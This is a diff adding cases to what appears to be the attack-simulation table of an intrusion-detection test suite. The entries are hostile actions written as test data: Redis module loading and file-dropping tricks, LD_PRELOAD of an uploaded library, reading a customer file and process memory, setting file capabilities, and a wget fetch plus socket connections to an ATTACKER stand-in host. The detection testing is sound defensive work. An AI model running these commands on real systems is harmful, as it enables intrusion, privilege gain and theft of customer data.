@@ -19,6 +19,8 @@ class Act(NamedTuple):
     do: str
     words: tuple[str, ...]
     listed: bool = False
+    put: tuple[str, str] | None = None
+    """A file of the mix that is copied first, from outside, to where uploads lie: as an upload would have come."""
 
 
 def call(number: int, *arguments: object) -> str:
@@ -63,6 +65,10 @@ ACTS: tuple[Act, ...] = (
     Act("library dropped by redis", "worker", "redis('CONFIG', 'SET', 'dir', '/tmp'); redis('CONFIG', 'SET', 'dbfilename', 'm.so'); out = redis('SAVE'); redis('CONFIG', 'SET', 'dir', '/var/lib/redis'); redis('CONFIG', 'SET', 'dbfilename', 'dump.rdb')", ("/tmp/m.so",)),
     Act("file written by the database", "worker", "out = pg(\"copy (select 1) to '/tmp/pg.out'\")", ("/tmp/pg.out",)),
     Act("hidden folder", "shell", "mkdir /opt/.cache", ("/opt/.cache",)),
+    Act("module loaded by redis", "worker", "out = redis('MODULE', 'LOAD', '/data/uploads/m.jpg')", ("/data/uploads/m.jpg",), False, ("/usr/lib/x86_64-linux-gnu/libz.so.1", "/data/uploads/m.jpg")),
+    Act("library from an upload in a job's tool", "shell", "LD_PRELOAD=/data/uploads/p.jpg date +%s", ("/data/uploads/p.jpg",), False, ("/usr/lib/x86_64-linux-gnu/libz.so.1", "/data/uploads/p.jpg")),
+    Act("folder that nobody reads, by the worker", "worker", "out = open('/data/private/customers.csv').read()", ("/data/private/customers.csv",)),
+    Act("customers removed by the worker", "worker", "os.rename('/data/private', '/data/.old')", ("/data/private", "/data/.old")),
     # programs
     Act("tool never used: wget", "shell", f"wget -qO /tmp/w http://{ATTACKER}/w", ("wget",)),
     Act("tool never used: perl", "shell", "perl -e 'print 1'", ("perl",)),
@@ -84,6 +90,9 @@ ACTS: tuple[Act, ...] = (
     # the network
     Act("new listener", "worker", "S = socket.create_server(('0.0.0.0', 4444)); S.close()", ("4444",)),
     Act("new listener on loopback", "worker", "S = socket.create_server(('127.0.0.1', 9001)); S.close()", ("9001",)),
+    Act("new datagram listener", "worker", "S = socket.socket(2, 2); S.bind(('0.0.0.0', 5353)); S.close()", ("5353",)),
+    Act("new listener without a path", "worker", "S = socket.socket(1, 1); S.bind(chr(0) + 'dbus-7'); S.listen(); S.close()", ("dbus-7",)),
+    Act("database by its socket", "worker", "S = socket.socket(1, 1); S.connect('/run/postgresql/.s.PGSQL.5432'); S.close()", (".s.PGSQL.5432",)),
     Act("new peer", "worker", f"socket.create_connection(('{ATTACKER}', 443), 5).close()", (f"{ATTACKER}:443",)),
     Act("another port of the partner", "worker", f"socket.create_connection(('{PARTNERS[0]}', 22), 5).close()", (f"{PARTNERS[0]}:22",)),
     Act("new datagram peer", "worker", f"socket.socket(2, 2).sendto(b'x', ('{ATTACKER}', 9999))", (f"{ATTACKER}:9999",)),
@@ -99,6 +108,8 @@ ACTS: tuple[Act, ...] = (
     Act("namespace by a tool never used", "shell", "unshare -m true", ("unshare",)),
     Act("namespace refused", "worker", call(272, "0x10000000"), ("unshare",)),
     Act("ptrace of the database", "worker", "pid = next(p for p in os.listdir('/proc') if p.isdigit() and open(f'/proc/{p}/comm').read().startswith('redis')); " + call(101, "0x4206", "int(pid)", 0, 0), ("ptrace",)),
+    Act("memory of the database", "worker", "pid = next(p for p in os.listdir('/proc') if p.isdigit() and open(f'/proc/{p}/comm').read().startswith('redis')); out = open(f'/proc/{pid}/mem', 'rb')", ("/mem",)),
+    Act("rights by an attribute", "worker", "os.setxattr('/data/uploads/k.jpg', 'security.capability', bytes.fromhex('0100000200040000000000000000000000000000'))", ("/data/uploads/k.jpg",)),
     Act("memory file made", "worker", "os.memfd_create('y', 0)", ("memfd_create",)),
     Act("memory that is written and run", "worker", "import mmap; mmap.mmap(-1, 4096, prot=7)", ("mmap",)),
     Act("bpf refused", "worker", "b = bytes(128); " + call(321, 5, "b", 128), ("bpf",)),
